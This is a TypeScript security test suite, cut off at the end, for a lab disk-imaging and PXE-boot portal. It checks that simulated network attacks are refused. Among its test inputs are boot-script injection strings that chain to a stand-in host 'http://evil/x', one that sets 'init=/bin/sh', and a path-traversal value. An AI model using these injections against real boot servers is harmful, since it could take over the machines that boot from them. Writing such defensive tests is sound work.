/**
 * The lab network as an attacker on it sees the portal: someone who knows every MAC and can send
 * anything to every port. Each probe against a real portal and storage node (SQLite), and each
 * refused; the boot scripts and keys they aim at are read back to show nothing got through.
 * Needs root for the source disk's loop devices.
 */
import { suite } from '../suite.js';
import * as assert from 'uvu/assert';
import { request } from 'node:http';
import { request as httpsRequest } from 'node:https';
import type { TLSSocket } from 'node:tls';
import { join } from 'node:path';
import { blankDisk, cleanup, makeDisk, workDir } from './fixtures.js';
import { connect } from 'node:net';
import Wire from 'bittorrent-protocol';
import bencode from 'bencode';
import { issueSwarmKey } from '../../shared/keys/swarm-key.js';
import { readSecret } from '../../shared/keys/lab-secret.js';
import { shoalOk } from './cli.js';
import { freePort, killAll, loopbackPortalArgs, startLabProcesses, startProcess, stopLab, type Lab } from './processes.js';
import knex from 'knex';
import { copyFileSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { X509Certificate, generateKeyPairSync } from 'node:crypto';
import { z } from 'zod';
import { ApiErrorSchema } from '../../shared/http/api.js';
import {
  ApprovedSchema,
  AuditListSchema,
  GroupSchema,
  HostListSchema,
  NewTokenSchema,
  ProgressReplySchema,
  SwarmTicketSchema,
  TaskSchema,
  TokenListSchema,
} from '../../shared/http/portal-contract.js';
import { ManifestSchema } from '../../shared/image/manifest.js';
import { call, checked, DeployTaskSchema, expectError, login, progressReport as report } from './portal-http.js';

const ADMIN_PASSWORD = 'correct horse battery';
const T = suite<{ lab: Lab; base: string; tls: string; admin: string; dir: string }>('trust on the lab network');

let retryAfter: string | undefined;
/** The certificate the lab's portal made on its first start: what an admin trusts after checking it. */
let portalCa: Buffer | undefined;

/** `body` as in portal-http.ts's Reply: the JSON, or the text where it is not JSON. */
type Answer = { status: number; body: unknown; text: string; headers: Record<string, string | string[] | undefined>; fingerprint?: string };

/**
 * A call from another address of the loopback network (127.0.0.2 ...): another machine on the lab
 * network. Over HTTPS when `base` says so, trusting the portal's certificate only.
 */
function callFrom(local: string, base: string, method: string, path: string, o: { as?: string; body?: unknown; cookie?: string } = {}): Promise<Answer> {
  const u = new URL(base);
  const data = o.body === undefined ? undefined : JSON.stringify(o.body);
  const send = u.protocol === 'https:' ? httpsRequest : request;
  return new Promise((resolve, reject) => {
    const req = send(
      {
        host: u.hostname,
        port: u.port,
        path,
        method,
        localAddress: local,
        ...(u.protocol === 'https:' && { ca: portalCa }),
        headers: {
          ...(data && { 'content-type': 'application/json' }),
          ...(o.as && { authorization: `Bearer ${o.as}` }),
          ...(o.cookie && { cookie: o.cookie }),
        },
      },
      (res) => {
        const fingerprint = (res.socket as TLSSocket).getPeerCertificate?.()?.fingerprint256;
        retryAfter = res.headers['retry-after'];
        let text = '';
        res.on('data', (c) => (text += c));
        res.on('end', () => {
          let body: unknown = text;
          try {
            body = JSON.parse(text);
          } catch {
            /* iPXE */
          }
          resolve({ status: res.statusCode!, body, text, headers: res.headers, ...(fingerprint && { fingerprint }) });
        });
      },
    );
    req.on('error', reject);
    req.end(data);
  });
}

/** A GET with a Host header fetch() would not send as it is. */
function getWithHost(base: string, path: string, host: string): Promise<{ status: number; body: string }> {
  const u = new URL(base);
  return new Promise((resolve, reject) => {
    const req = request({ host: u.hostname, port: u.port, path, headers: { host } }, (res) => {
      let body = '';
      res.on('data', (c) => (body += c));
      res.on('end', () => resolve({ status: res.statusCode!, body }));
    });
    req.on('error', reject);
    req.end();
  });
}

T.before(async (ctx) => {
  ctx.dir = workDir();
  const store = join(ctx.dir, 'store');
  const disk = makeDisk(ctx.dir, 'src.img', 48, 'gpt', [{ sizeMiB: 24, fs: 'ext4', name: 'root' }], 2);
  shoalOk('capture', '--disk', disk.path, '--store', store, '--image', 'lab', '--type', 'multipart');
  ctx.lab = await startLabProcesses(join(ctx.dir, 'lab'), [store], [], 1, { adminPassword: ADMIN_PASSWORD });
  ctx.base = ctx.lab.portal.url;
  ctx.tls = ctx.base.replace(/^http:/, 'https:');
  portalCa = readFileSync(join(ctx.lab.data, 'tls', 'cert.pem'));
  ctx.admin = await login(ctx.base, 'admin', ADMIN_PASSWORD);
});
T.after(async (ctx) => {
  await stopLab(ctx.lab);
});

T(
  'boot hijack: a disk, name or Host header that would add a line or an argument to a boot script is refused; a PC cannot change what the admin set',
  async ({ base, admin }) => {
    const mac = '52:54:00:7a:00:01';
    for (const disk of ['/dev/sda\nchain http://evil/x', '/dev/sda quiet init=/bin/sh', '/dev/../etc/passwd', 'sda', '/dev/sda;reboot', '/dev/${net0/mac}']) {
      expectError(
        await call(base, 'POST', '/api/v1/hosts/register', { body: { mac, disk } }),
        400,
        /disk: a device under \/dev/,
        `a PC registering with disk ${JSON.stringify(disk)}`,
      );
      expectError(
        await call(base, 'POST', '/api/v1/hosts', { as: admin, body: { mac, disk } }),
        400,
        /disk: a device under \/dev/,
        `an admin adding a host with disk ${JSON.stringify(disk)}`,
      );
    }
    expectError(
      await call(base, 'POST', '/api/v1/hosts/import', { as: admin, csv: `mac,disk\n${mac},"/dev/sda\nchain http://evil/x"\n` }),
      400,
      /CSV line 2: disk: a device under \/dev/,
      'a CSV row with a newline in its disk',
    );
    assert.is(
      (await call(base, 'POST', '/api/v1/hosts', { as: admin, body: { mac, name: 'pc-1', disk: '/dev/disk/by-id/ata-Samsung_SSD_860_S3Z1-part1' } })).status,
      201,
      'a by-id path is a disk',
    );
    const task = (await call(base, 'POST', '/api/v1/tasks', { as: admin, body: { kind: 'deploy', image: 'lab', hosts: [mac] }, schema: TaskSchema })).body;
    const script = (await call(base, 'GET', `/boot/ipxe?mac=${mac}`)).text;
    const key = /shoal\.key=(\S+)/.exec(script)![1]!;
    // With the key anyone gets by asking with the MAC, the PC still cannot touch what the admin set.
    for (const change of [{ disk: '/dev/sdb' }, { name: 'other' }, { group: 'x' }, { image: 'lab' }]) {
      const r = await call(base, 'POST', '/api/v1/hosts/register', { as: key, body: { mac, ...change } });
      assert.ok(r.status === 403 || r.status === 400, `a PC changing ${Object.keys(change)[0]}: ${JSON.stringify(r.body)}`);
    }
    expectError(
      await call(base, 'PATCH', `/api/v1/hosts/${mac}`, { as: admin, body: { disk: '/dev/sda chain' } }),
      400,
      /disk: a device under \/dev/,
      'an admin changing the disk to two words',
    );
    const after = (await call(base, 'GET', `/boot/ipxe?mac=${mac}`)).text;
    assert.match(after, /shoal\.disk=\/dev\/disk\/by-id\/ata-Samsung_SSD_860_S3Z1-part1 console=/, "the boot script keeps the admin's disk");
    assert.equal(
      after
        .split('\n')
        .filter((l) => /^(kernel|chain|initrd|imgfetch|imgexec)\b/.test(l))
        .map((l) => l.split(' ')[0]),
      ['kernel', 'initrd'],
      `only the script's own commands:\n${after}`,
    );
    const hijack = await getWithHost(base, `/boot/ipxe?mac=${mac}`, 'portal initrd=http://evil/x');
    assert.is(hijack.status, 400, `a Host header with a space: ${hijack.body}`);
    assert.match(hijack.body, /not a host name or address/);
    await call(base, 'POST', `/api/v1/tasks/${task.id}/cancel`, { as: admin });
  },
);

T(
  'task keys: the first address to ask gets the key; a second is refused and the dashboard shows the conflict; the key reports from its address only, states go one way, and done needs proof that the PC holds the image',
  async ({ base, admin }) => {
    const mac = '52:54:00:7a:00:02';
    const other = '127.0.0.2';
    assert.is((await call(base, 'POST', '/api/v1/hosts', { as: admin, body: { mac, name: 'pc-2' } })).status, 201);
    const task = (await call(base, 'POST', '/api/v1/tasks', { as: admin, body: { kind: 'deploy', image: 'lab', hosts: [mac] }, schema: TaskSchema })).body;
    const mine = await call(base, 'GET', `/api/v1/hosts/${mac}/task`, { schema: DeployTaskSchema });
    assert.is(mine.status, 200);
    const key = mine.body.key;
    assert.is((await call(base, 'GET', `/api/v1/hosts/${mac}/task`)).status, 200, 'the same address again: a PC that rebooted half-way');
    const second = await callFrom(other, base, 'GET', `/api/v1/hosts/${mac}/task`);
    assert.is(second.status, 409, JSON.stringify(second.body));
    const refusal = checked(ApiErrorSchema.extend({ key: z.unknown().optional() }), second.body, 'the second address');
    assert.match(refusal.error, /its task key went to another address/);
    assert.is(refusal.key, undefined);
    const boot = await callFrom(other, base, 'GET', `/boot/ipxe?mac=${mac}`);
    assert.is(boot.status, 200);
    assert.not.match(boot.text, /kernel|shoal\.key/, 'no boot script with the key for the second address');
    assert.match(boot.text, /booting from the disk/);
    const shown = (await call(base, 'GET', `/api/v1/tasks/${task.id}`, { as: admin, schema: TaskSchema })).body.hosts.find((h) => h.mac === mac)!;
    assert.match(shown.error ?? '', /conflict: (::ffff:)?127\.0\.0\.2 asked for this PC's task key/, 'the dashboard shows the conflict');
    // The key itself, taken to another address, reports nothing for the PC.
    const stolen = await callFrom(other, base, 'POST', `/api/v1/tasks/${task.id}/hosts/${mac}/progress`, { as: key, body: report('done') });
    assert.is(stolen.status, 409, JSON.stringify(stolen.body));
    assert.is((await call(base, 'POST', `/api/v1/tasks/${task.id}/hosts/${mac}/progress`, { as: key, body: report('running') })).status, 200);
    expectError(
      await call(base, 'POST', `/api/v1/tasks/${task.id}/hosts/${mac}/progress`, { as: key, body: report('waiting') }),
      409,
      /is running .* cannot go back to waiting/,
      'a state going back',
    );
    const after = (await call(base, 'GET', `/api/v1/tasks/${task.id}`, { as: admin, schema: TaskSchema })).body.hosts.find((h) => h.mac === mac)!;
    assert.is(after.state, 'running', 'the stolen done changed nothing');
    // Even from its own address, done is not believed without proof that the PC holds the image.
    const claim = await call(base, 'POST', `/api/v1/tasks/${task.id}/hosts/${mac}/progress`, { as: key, body: report('done'), schema: ProgressReplySchema });
    assert.is(claim.status, 200);
    assert.match(claim.body.challenge?.nonce ?? '', /^[0-9a-f]{32}$/, 'a challenge');
    assert.ok((claim.body.challenge?.pieces.length ?? 0) >= 1);
    const stateOf = async () => (await call(base, 'GET', `/api/v1/tasks/${task.id}`, { as: admin, schema: TaskSchema })).body.hosts.find((h) => h.mac === mac)!;
    assert.is((await stateOf()).state, 'running', 'a done without proof changes nothing');
    expectError(
      await call(base, 'POST', `/api/v1/tasks/${task.id}/hosts/${mac}/progress`, {
        as: key,
        body: { ...report('done'), proof: { nonce: 'f'.repeat(32), digest: '0'.repeat(64) } },
      }),
      409,
      /no open challenge/,
      'a proof for a challenge never made',
    );
    const again = (await call(base, 'POST', `/api/v1/tasks/${task.id}/hosts/${mac}/progress`, { as: key, body: report('done'), schema: ProgressReplySchema }))
      .body.challenge!;
    expectError(
      await call(base, 'POST', `/api/v1/tasks/${task.id}/hosts/${mac}/progress`, {
        as: key,
        body: { ...report('done'), proof: { nonce: again.nonce, digest: '0'.repeat(64) } },
      }),
      409,
      /does not match the image: it does not hold lab v1/,
      'a made-up proof',
    );
    const failed = await stateOf();
    assert.is(failed.state, 'failed', 'a PC that claims the image without holding it is failed, and says why');
    assert.match(failed.error ?? '', /does not hold lab v1/);
  },
);

T(
  "TLS for admins on the PCs' port: a certificate made on first start and kept, or given; plain HTTP from another machine carries no login, session or token, and PCs still boot over it",
  async ({ base, tls, lab, dir }) => {
    const other = '127.0.0.2';
    const page = await callFrom(other, base, 'GET', '/hosts');
    assert.equal([page.status, page.headers.location], [308, `${tls}/hosts`], 'a page of the web UI over plain HTTP goes to HTTPS');
    expectError(
      await callFrom(other, base, 'GET', '/api/v1/hosts', { as: lab.token }),
      403,
      /over HTTPS only.*use https:\/\/127\.0\.0\.1:\d+/,
      'an API token over plain HTTP',
    );
    expectError(
      await callFrom(other, base, 'POST', '/api/v1/session', { body: { username: 'admin', password: ADMIN_PASSWORD } }),
      403,
      /over HTTPS only/,
      'a login over plain HTTP',
    );
    const made = new X509Certificate(portalCa!).fingerprint256;
    const loggedIn = await callFrom(other, tls, 'POST', '/api/v1/session', { body: { username: 'admin', password: ADMIN_PASSWORD } });
    assert.is(loggedIn.status, 200, JSON.stringify(loggedIn.body));
    assert.is(loggedIn.fingerprint, made, 'HTTPS shows the certificate made in DATA/tls');
    const cookie = String(loggedIn.headers['set-cookie']);
    assert.match(cookie, /^shoal_session=[^;]+;.*secure/i, 'the session cookie is Secure: the browser never sends it over plain HTTP');
    const session = cookie.split(';')[0]!;
    assert.is((await callFrom(other, tls, 'GET', '/api/v1/hosts', { cookie: session })).status, 200, 'the session over HTTPS');
    expectError(
      await callFrom(other, base, 'GET', '/api/v1/hosts', { cookie: session }),
      403,
      /over HTTPS only/,
      'the session cookie replayed over plain HTTP',
    );
    assert.is((await callFrom(other, tls, 'GET', '/api/v1/hosts', { as: lab.token })).status, 200, 'an API token over HTTPS');
    const boot = await callFrom(other, base, 'GET', '/boot/ipxe?mac=52:54:00:7a:0f:01');
    assert.is(boot.status, 200, 'a PC boots over plain HTTP');
    assert.match(boot.text, /^#!ipxe/);
    // A certificate given: this one, copied; a key that is not its own stops the start with a reason.
    const given = join(dir, 'given-tls');
    mkdirSync(given, { recursive: true });
    copyFileSync(join(lab.data, 'tls', 'cert.pem'), join(given, 'cert.pem'));
    copyFileSync(join(lab.data, 'tls', 'key.pem'), join(given, 'key.pem'));
    writeFileSync(join(given, 'other-key.pem'), generateKeyPairSync('ec', { namedCurve: 'P-256' }).privateKey.export({ type: 'pkcs8', format: 'pem' }));
    const data = join(dir, 'tls-given-data');
    const p = await startProcess('portal', await loopbackPortalArgs(data, '--tls-cert', join(given, 'cert.pem'), '--tls-key', join(given, 'key.pem')));
    try {
      const h = await callFrom(other, p.url.replace('http:', 'https:'), 'GET', '/healthz');
      assert.equal([h.status, h.fingerprint], [200, made], 'the given certificate is served');
      assert.not.ok(existsSync(join(data, 'tls')), 'and none is made');
    } finally {
      await p.kill('SIGTERM');
    }
    await startProcess('portal', await loopbackPortalArgs(data, '--tls-cert', join(given, 'cert.pem'), '--tls-key', join(given, 'other-key.pem'))).then(
      () => assert.unreachable("a portal with a key that is not its certificate's started"),
      (err: Error) => assert.match(err.message, /the key does not belong to the certificate/),
    );
    // A made certificate is kept: a restart serves the same one.
    const fresh = join(dir, 'tls-made-data');
    let first: string | undefined;
    for (let i = 0; i < 2; i++) {
      const q = await startProcess('portal', ['--data', fresh, '--port', String(await freePort()), '--host', '127.0.0.1', '--no-wake']);
      try {
        const cert = readFileSync(join(fresh, 'tls', 'cert.pem'));
        portalCa = cert;
        const h = await callFrom(other, q.url.replace('http:', 'https:'), 'GET', '/healthz');
        assert.is(h.fingerprint, new X509Certificate(cert).fingerprint256, `start ${i + 1}: the certificate in DATA/tls`);
        if (i === 0) first = h.fingerprint;
        else assert.is(h.fingerprint, first, 'the same certificate after a restart');
      } finally {
        portalCa = readFileSync(join(lab.data, 'tls', 'cert.pem'));
        await q.kill('SIGTERM');
      }
    }
    // --no-tls: admins over plain HTTP, as the admin chose.
    const plain = await startProcess('portal', [
      '--data',
      join(dir, 'tls-off-data'),
      '--port',
      String(await freePort()),
      '--host',
      '127.0.0.1',
      '--no-wake',
      '--no-tls',
    ]);
    try {
      assert.is(
        (await callFrom(other, plain.url, 'POST', '/api/v1/session', { body: { username: 'admin', password: 'wrong' } })).status,
        401,
        'a login over plain HTTP is checked, not refused',
      );
    } finally {
      await plain.kill('SIGTERM');
    }
  },
);

T(
  'logins: wrong passwords back off per user and per address, an unknown user costs what a known one does, both are in the audit log',
  async ({ base, tls, admin }) => {
    const login = (from: string, username: string, password: string) => callFrom(from, tls, 'POST', '/api/v1/session', { body: { username, password } });
    // Known and unknown user names, each from an address of its own (no backoff between them).
    const timed = async (from: string, user: string): Promise<number> => {
      const t = performance.now();
      assert.is((await login(from, user, 'not the password')).status, 401);
      return performance.now() - t;
    };
    const known = Math.min(await timed('127.0.0.3', 'admin'), await timed('127.0.0.3', 'admin'));
    const unknown = Math.min(await timed('127.0.0.4', 'nobody-here'), await timed('127.0.0.4', 'nobody-here'));
    assert.ok(
      unknown > known / 3 && unknown < known * 3,
      `a wrong password for a known user took ${known.toFixed(0)} ms, for an unknown user ${unknown.toFixed(0)} ms`,
    );
    // The third failure from 127.0.0.3 starts the backoff: the next try is refused at once, even with the right password.
    assert.is((await login('127.0.0.3', 'admin', 'not the password')).status, 401);
    // Per user too: the admin's name is held from another address as well (both sent at once: a
    // refusal is answered only when its wait is over).
    const sent = performance.now();
    const [held, elsewhere] = await Promise.all([login('127.0.0.3', 'admin', ADMIN_PASSWORD), login('127.0.0.5', 'admin', ADMIN_PASSWORD)]);
    assert.is(held.status, 429, JSON.stringify(held.body));
    assert.match(checked(ApiErrorSchema, held.body, 'the held login').error, /too many wrong logins .* try again in \d+ s/);
    assert.ok(Number(retryAfter) >= 1, `Retry-After: ${retryAfter}`);
    assert.is(elsewhere.status, 429, 'the user name is held from any address');
    assert.ok(performance.now() - sent >= 500, 'a refusal is answered slowly, not at once');
    await new Promise((r) => setTimeout(r, Number(retryAfter) * 1000 + 100));
    assert.is((await login('127.0.0.5', 'admin', ADMIN_PASSWORD)).status, 200, 'after the wait the right password logs in');
    const entries = (await call(base, 'GET', '/api/v1/audit?limit=50', { as: admin, schema: AuditListSchema })).body.entries;
    /** A refused login's details, as the portal logs them. */
    const loginRefusal = (e: { detail?: unknown }) =>
      z.looseObject({ reason: z.unknown().optional(), backoffSeconds: z.unknown().optional() }).safeParse(e.detail).data;
    assert.ok(
      entries.some(
        (e) => e.action === 'session.refused' && e.actor === 'nobody-here' && loginRefusal(e)?.reason === 'no such user' && /127\.0\.0\.4/.test(e.target ?? ''),
      ),
      'the unknown user refused, in the audit log',
    );
    assert.ok(
      entries.some((e) => e.action === 'session.refused' && e.actor === 'admin' && Number(loginRefusal(e)?.backoffSeconds) >= 1),
      'the backoff it started, in the audit log',
    );
    assert.ok(
      entries.some((e) => e.action === 'session.login' && e.actor === 'admin' && /127\.0\.0\.5/.test(e.target ?? '')),
      'the login, in the audit log',
    );
  },
);

T('API tokens expire; a revoked admin-token file stays revoked after the portal restarts', async ({ dir }) => {
  const data = join(dir, 'tokens');
  const port = String(await freePort());
  const args = ['--data', data, '--port', port, '--host', '127.0.0.1', '--no-wake'];
  let portal = await startProcess('portal', args);
  try {
    const fileToken = readFileSync(join(data, 'admin-token'), 'utf8').trim();
    const made = (await call(portal.url, 'POST', '/api/v1/tokens', { as: fileToken, body: { label: 'nightly script' }, schema: NewTokenSchema })).body;
    const days = (Date.parse(made.expiresAt) - Date.now()) / 86_400_000;
    assert.ok(days > 89.9 && days <= 90, `a new token lives 90 days (${days})`);
    assert.is((await call(portal.url, 'GET', '/api/v1/hosts', { as: made.token })).status, 200);
    // Its expiry reached (set in the database: no test waits 90 days).
    const db = knex({ client: 'sqlite3', connection: { filename: join(data, 'shoal.sqlite') }, useNullAsDefault: true });
    try {
      await db('api_tokens')
        .where({ id: made.id })
        .update({ expires_ms: Date.now() - 1000 });
    } finally {
      await db.destroy();
    }
    expectError(await call(portal.url, 'GET', '/api/v1/hosts', { as: made.token }), 401, /this API token expired at/, 'an expired token');
    const listed = (await call(portal.url, 'GET', '/api/v1/tokens', { as: fileToken, schema: TokenListSchema })).body.tokens;
    const own = listed.find((t) => t.label === 'admin-token file')!;
    assert.is((await call(portal.url, 'DELETE', `/api/v1/tokens/${own.id}`, { as: fileToken })).status, 204);
    expectError(await call(portal.url, 'GET', '/api/v1/hosts', { as: fileToken }), 401, /revoked/, 'the revoked admin-token');
    await portal.kill('SIGTERM');
    portal = await startProcess('portal', args);
    expectError(await call(portal.url, 'GET', '/api/v1/hosts', { as: fileToken }), 401, /revoked/, 'the revoked admin-token after a restart');
  } finally {
    await portal.kill('SIGTERM');
  }
});

T(
  'enrolment: a new MAC waits for approval and boots its disk; 30 made-up MACs into a group: rate-limited and in no deploy; a group secret lets a PC in; an admin approves in bulk',
  async ({ base, admin }) => {
    const mac = (i: number) => `52:54:00:e0:00:${i.toString(16).padStart(2, '0')}`;
    const register = (i: number, extra: Record<string, unknown> = {}) =>
      callFrom('127.0.0.6', base, 'POST', '/api/v1/hosts/register', { body: { mac: mac(i), ...extra } });
    assert.is((await call(base, 'POST', '/api/v1/groups', { as: admin, body: { name: 'room-s' } })).status, 201);
    for (const m of ['52:54:00:e1:00:01', '52:54:00:e1:00:02'])
      assert.is((await call(base, 'POST', '/api/v1/hosts', { as: admin, body: { mac: m, group: 'room-s' } })).status, 201);
    assert.is((await register(0)).status, 200);
    const h = (await call(base, 'GET', `/api/v1/hosts?search=${mac(0)}`, { as: admin, schema: HostListSchema })).body.hosts[0]!;
    assert.is(h.pending, true, 'a MAC that registered itself waits');
    const boot = (await call(base, 'GET', `/boot/ipxe?mac=${mac(0)}`)).text;
    assert.match(boot, /waits for an admin.s approval/);
    assert.not.match(boot, /kernel/);
    const stuffed = [];
    for (let i = 1; i <= 30; i++) stuffed.push((await register(i, { group: 'room-s' })).status);
    assert.ok(
      stuffed.filter((x) => x === 200).length <= 20 && stuffed.filter((x) => x === 429).length >= 10,
      `registrations from one address are limited: ${stuffed.join(' ')}`,
    );
    const deploy = (await call(base, 'POST', '/api/v1/tasks', { as: admin, body: { kind: 'deploy', image: 'lab', group: 'room-s' }, schema: TaskSchema })).body;
    assert.is(deploy.hosts.length, 2, 'the group deploy has the two approved hosts, none of the stuffed ones');
    await call(base, 'POST', `/api/v1/tasks/${deploy.id}/cancel`, { as: admin });
    // A group's registration secret: a PC bringing it joins at once; a wrong one is refused.
    assert.is(
      (await call(base, 'PATCH', '/api/v1/groups/room-s', { as: admin, body: { registrationSecret: 'room s secret 2026' }, schema: GroupSchema })).body
        .registrationSecret,
      true,
    );
    expectError(
      await callFrom('127.0.0.7', base, 'POST', '/api/v1/hosts/register', { body: { mac: mac(40), group: 'room-s', secret: 'a guess at it' } }),
      403,
      /wrong registration secret for group room-s/,
      'a wrong secret',
    );
    assert.is(
      (await callFrom('127.0.0.7', base, 'POST', '/api/v1/hosts/register', { body: { mac: mac(41), group: 'room-s', secret: 'room s secret 2026' } })).status,
      200,
    );
    const vouched = (await call(base, 'GET', `/api/v1/hosts?search=${mac(41)}`, { as: admin, schema: HostListSchema })).body.hosts[0]!;
    assert.equal([vouched.pending, vouched.group], [false, 'room-s']);
    const audit = (await call(base, 'GET', '/api/v1/audit?limit=100', { as: admin, schema: AuditListSchema })).body.entries;
    assert.not.ok(JSON.stringify(audit).includes('room s secret 2026'), 'the secret is in no audit entry');
    // Approval in bulk.
    const waiting = (await call(base, 'GET', '/api/v1/hosts?pending=true', { as: admin, schema: HostListSchema })).body.hosts.length;
    assert.ok(waiting >= 20, `${waiting} hosts wait (the first, and those the limit let in)`);
    const approved = (await call(base, 'POST', '/api/v1/hosts/approve', { as: admin, body: { allPending: true }, schema: ApprovedSchema })).body.approved;
    assert.is(approved.length, waiting);
    assert.is((await call(base, 'GET', '/api/v1/hosts?pending=true', { as: admin, schema: HostListSchema })).body.hosts.length, 0);
  },
);

T('security headers on every answer: the UI, the API, an error', async ({ base }) => {
  for (const path of ['/', '/api/v1/images', '/api/v1/nowhere']) {
    const res = await fetch(`${base}${path}`);
    assert.is(res.headers.get('x-content-type-options'), 'nosniff', path);
    assert.is(res.headers.get('x-frame-options'), 'DENY', path);
    assert.is(res.headers.get('referrer-policy'), 'no-referrer', path);
    assert.match(res.headers.get('content-security-policy') ?? '', /default-src 'self'.*frame-ancestors 'none'/, path);
  }
});

T(
  "images are read only with a key: HTTP reads, the seeder's BitTorrent port, one key's room at the tracker; a standard PC still deploys",
  async ({ base, admin, lab, dir }) => {
    const ticket = (await call(base, 'POST', '/api/v1/images/lab/ticket', { as: admin, body: {}, schema: SwarmTicketSchema })).body;
    const webSeed = ticket.webSeeds[0]!;
    const node = new URL(webSeed).origin;
    const area = checked(ManifestSchema, ticket.manifest, "the ticket's manifest").disks[0]!.areas.find((a) => !/swap/.test(a.id))!.id;
    const stored = readFileSync(join(dir, 'store', 'lab', 'v1', `${area}.pieces`));
    const secret = readSecret(join(lab.data, 'lab-secret'));
    const infoHash = ticket.image.infoHash;
    const read = async (url: string) => {
      const res = await fetch(url);
      return { status: res.status, body: Buffer.from(await res.arrayBuffer()) };
    };
    for (const [what, url, why] of [
      ['no key', `${node}/images/lab/v1/${area}.pieces`, /image reads need a key/],
      [
        'a forged key',
        `${node}/k/${issueSwarmKey('another lab secret 0123', infoHash, 'pc-x', Date.now() + 60_000)}/images/lab/v1/${area}.pieces`,
        /not valid for this image/,
      ],
      [
        'a key for another image',
        `${node}/k/${issueSwarmKey(secret, 'f'.repeat(40), 'pc-x', Date.now() + 60_000)}/images/lab/v1/manifest.json`,
        /not valid for this image/,
      ],
      ['an expired key', `${node}/k/${issueSwarmKey(secret, infoHash, 'pc-x', Date.now() - 60_000)}/images/lab/v1/image.torrent`, /expired/],
    ] as const) {
      const r = await read(url);
      assert.is(r.status, 401, `${what}: ${r.body.toString()}`);
      assert.match(r.body.toString(), why, what);
    }
    const keyed = await read(`${webSeed}v1/${area}.pieces`);
    assert.is(keyed.status, 200);
    assert.ok(keyed.body.equals(stored), "the ticket's web seed reads the piece file as stored");
    // The BitTorrent port: a peer from an address that showed no key gets no block and is hung up on;
    // one that knocked with its key is served.
    const [btHost, btPort] = ticket.peers[0]!.split(':');
    const askBlock = (local: string) =>
      new Promise<{ closed: boolean; block?: Buffer }>((resolve) => {
        const socket = connect({ host: btHost, port: Number(btPort), localAddress: local });
        const wire = new Wire();
        socket.pipe(wire).pipe(socket);
        const done = (r: { closed: boolean; block?: Buffer }) => {
          clearTimeout(timer);
          socket.destroy();
          resolve(r);
        };
        const timer = setTimeout(() => done({ closed: false }), 15_000);
        socket.on('close', () => done({ closed: true }));
        socket.on('error', () => done({ closed: true }));
        wire.on('handshake', () => wire.interested());
        wire.on('unchoke', () => wire.request(0, 0, 16_384, (err, buf) => done({ closed: false, block: err ? undefined : Buffer.from(buf!) })));
        wire.handshake(infoHash, Buffer.from('-XX0001-attacker0001').toString('hex'));
      });
    const stranger = await askBlock('127.0.0.2');
    assert.equal([stranger.closed, stranger.block], [true, undefined], 'no key, no tracker: the seeder hangs up and sends no block');
    const knocked = await callFrom('127.0.0.3', node, 'POST', new URL(`${webSeed}v1/admit`).pathname);
    assert.is(knocked.status, 204, JSON.stringify(knocked.body));
    const holder = await askBlock('127.0.0.3');
    assert.ok(holder.block?.equals(stored.subarray(0, 16_384)), 'a peer that showed its key gets the block it asked for');
    // One key at the tracker: forty made-up seeders under it take at most four entries, and the real
    // seeder is still handed out.
    const announceUrl = ticket.announce[0]!;
    const binary = (hex: string) => [...Buffer.from(hex, 'hex')].map((b) => `%${b.toString(16).padStart(2, '0')}`).join('');
    const announce = async (i: number, left: number) => {
      const peerId = Buffer.from(`-XX0001-fake${String(i).padStart(8, '0')}`).toString('hex');
      const res = await fetch(
        `${announceUrl}?info_hash=${binary(infoHash)}&peer_id=${binary(peerId)}&port=${20_000 + i}&left=${left}&compact=0&event=started&numwant=200`,
      );
      return bencode.decode(new Uint8Array(await res.arrayBuffer())) as { peers?: Array<{ port: number }> };
    };
    for (let i = 0; i < 40; i++) await announce(i, 0);
    const swarms = z.object({ swarms: z.array(z.object({ infoHash: z.string(), seeders: z.number(), leechers: z.number() })) });
    const swarm = checked(swarms, await (await fetch(`${lab.tracker.url}/swarms`)).json(), "the tracker's swarms").swarms.find((x) => x.infoHash === infoHash)!;
    assert.ok(swarm.seeders + swarm.leechers <= 1 + 4, `one key holds at most 4 entries: ${JSON.stringify(swarm)}`);
    const fresh = await announce(99, 100);
    assert.ok(
      fresh.peers?.some((p) => p.port === Number(btPort)),
      `the real seeder is still handed out: ${JSON.stringify(fresh.peers)}`,
    );
    // And a real PC deploys, over the swarm, from the seeder that refused the others.
    const disk = blankDisk(join(dir, 'keyed-pc.img'), 48 * 1024 * 1024);
    const out = shoalOk('deploy', '--portal', base, '--image', 'lab', '--disk', disk, '--token', lab.token, '--transport', 'swarm', '--linger', '1');
    assert.match(out.stdout + out.stderr, /through the swarm/);
  },
);

T("a private image is another image-admin's to neither see, ticket, torrent nor deploy; its owner and admins may", async ({ base, admin }) => {
  for (const name of ['ann', 'bob'])
    assert.is((await call(base, 'POST', '/api/v1/users', { as: admin, body: { name, password: `${name} password 2026`, role: 'image-admin' } })).status, 201);
  const ann = await login(base, 'ann', 'ann password 2026');
  const bob = await login(base, 'bob', 'bob password 2026');
  assert.is((await call(base, 'POST', '/api/v1/images', { as: ann, body: { name: 'ann-only', imageType: 'multipart', access: 'private' } })).status, 201);
  const mac = '52:54:00:7a:0e:01';
  assert.is((await call(base, 'POST', '/api/v1/hosts', { as: admin, body: { mac } })).status, 201);
  for (const [what, r] of [
    ['the list', await call(base, 'GET', '/api/v1/images', { as: bob })],
    ['a ticket', await call(base, 'POST', '/api/v1/images/ann-only/ticket', { as: bob, body: {} })],
    ['a .torrent', await call(base, 'GET', '/api/v1/images/ann-only/torrent', { as: bob })],
    ['a deploy', await call(base, 'POST', '/api/v1/tasks', { as: bob, body: { kind: 'deploy', image: 'ann-only', hosts: [mac] } })],
    ['a capture into it', await call(base, 'POST', '/api/v1/tasks', { as: bob, body: { kind: 'capture', image: 'ann-only', hosts: [mac] } })],
  ] as const) {
    if (what === 'the list') assert.not.ok(JSON.stringify(r.body).includes('ann-only'), 'bob does not see it listed');
    else expectError(r, 404, /image ann-only not found/, `bob asks for ${what}`);
  }
  expectError(
    await call(base, 'POST', '/api/v1/images/ann-only/ticket', { as: ann, body: {} }),
    409,
    /no published version yet/,
    'ann gets past the owner check (nothing captured yet)',
  );
  expectError(await call(base, 'POST', '/api/v1/images/ann-only/ticket', { as: admin, body: {} }), 409, /no published version yet/, 'so does an admin');
});

T(
  'a login flood: 50 concurrent wrong logins for 5 s are slowed or refused, while 200 PCs report and an admin reads, every request answered',
  async ({ base, tls, admin }) => {
    const pcs = Array.from({ length: 200 }, (_, i) => `52:54:00:f1:${(i >> 8).toString(16).padStart(2, '0')}:${(i & 255).toString(16).padStart(2, '0')}`);
